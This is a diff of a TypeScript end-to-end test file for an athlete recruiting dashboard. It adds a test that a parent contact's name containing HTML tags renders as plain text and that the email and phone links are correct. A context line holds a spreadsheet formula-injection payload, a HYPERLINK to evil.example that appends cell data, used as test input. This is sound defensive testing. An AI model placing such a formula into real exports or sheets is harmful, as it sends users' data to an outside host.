@@ -21,6 +21,8 @@ const client = clientsForThisFile();
 const span = { start: 0, end: 1, snippet: "seeded" };
 const value = <T>(v: T) => ({ value: v, confidence: 0.9, source: span });
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Watch film")';
+/** A name as an email wrote it, markup and all: shown as text. */
+const INES_PARENT = "Ngozi <b>Okonkwo</b>";
 
 function athlete(first: string, last: string, extra: Partial<ExtractedAthlete>): ExtractedAthlete {
   return { ...emptyExtractedAthlete(), sport: value("volleyball" as const), firstName: value(first), lastName: value(last), positions: value(["OH"]), email: value(`${first}.${last}.${randomUUID().slice(0, 4)}@gmail.com`.toLowerCase()), ...extra };
@@ -38,7 +40,13 @@ beforeAll(async () => {
     ...fixtureAthletes(60, 11),
     athlete("Tallulah", "Tallest", { height: value({ written: "6'7\"", inches: 79 }), state: value("TX"), gradYear: value(2026), clubTeam: value(HOSTILE) }),
     athlete("Bea", "Brennan", { state: value("TX"), gradYear: value(2027), clubTeam: value("Skyline 17 Royal"), city: value("Dallas") }),
-    athlete("Ines", "Okonkwo", { state: value("NE"), gradYear: value(2028), highSchool: value("Westside High School"), city: value("Omaha") }),
+    athlete("Ines", "Okonkwo", {
+      state: value("NE"),
+      gradYear: value(2028),
+      highSchool: value("Westside High School"),
+      city: value("Omaha"),
+      contacts: [{ role: "parent", name: INES_PARENT, email: "ngozi.okonkwo@example.com", phone: "+14025550177", source: span }],
+    }),
   ]);
   const original = athleteIntroduction({ first: "Maya", last: "Thompson", email: `maya.${randomUUID().slice(0, 6)}@gmail.com`, club: "KJV 17 Elite" });
   const raw = await forwardedMessage({ from: started.email, to: started.account.forwardingAddress, subject: `Fwd: ${original.subject}`, original, messageId: `<${randomUUID()}@mail.example>` });
@@ -166,6 +174,20 @@ describe("the athlete page", () => {
     await page.reload();
     await page.getByRole("radio", { name: "4 of 5" }).and(page.locator(":checked")).waitFor();
     expect(await page.getByRole("textbox", { name: "Notes" }).inputValue()).toBe("Call her club coach.");
+    await context.close();
+  });
+});
+
+describe("the athlete's contacts", () => {
+  it("lists a parent with her role, name as written, and mailto and tel links", async () => {
+    const [ines] = (await coach.coach.call("listAthletes", { filters: { query: "Ines Okonkwo" }, sort: { by: "relevance", direction: "desc" }, page: 1, pageSize: 25 })).rows;
+    const { context, page } = await signedInPage(DESKTOP, `/dashboard/athletes/${ines!.id}`);
+    const contacts = page.getByRole("region", { name: "Contacts" });
+    await contacts.getByText(INES_PARENT, { exact: true }).waitFor();
+    await contacts.getByText("Parent", { exact: true }).waitFor();
+    expect(await contacts.getByRole("link", { name: "ngozi.okonkwo@example.com" }).getAttribute("href")).toBe("mailto:ngozi.okonkwo@example.com");
+    expect(await contacts.getByRole("link", { name: "(402) 555-0177" }).getAttribute("href")).toBe("tel:+14025550177");
+    expect(await page.locator("b").filter({ hasText: "Okonkwo" }).count()).toBe(0);
     await context.close();
   });
 });
